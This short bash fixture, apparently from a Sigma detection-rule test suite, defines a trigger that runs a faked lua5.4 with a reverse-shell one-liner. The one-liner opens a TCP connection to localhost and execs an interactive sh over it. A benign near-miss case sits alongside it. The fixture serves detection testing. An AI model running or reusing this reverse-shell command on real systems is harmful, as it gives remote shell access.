# shellcheck shell=bash disable=SC2034 # DESC is read by test_sigma_ruleset.sh
DESC="a do-nothing lua5.4 run with -e \"require('socket') ... os.execute('sh -i <&3 >&3')\""
trigger() {
    held "$(fake "$1" lua5.4)" -e "local s=require('socket'); local t=s.tcp(); t:connect('127.0.0.1', $LISTEN_PORT); os.execute('sh -i <&3 >&3 2>&3')"
}
near_miss() {
    held "$(fake "$1" lua5.4)" -e "print(os.execute('true'))"
}
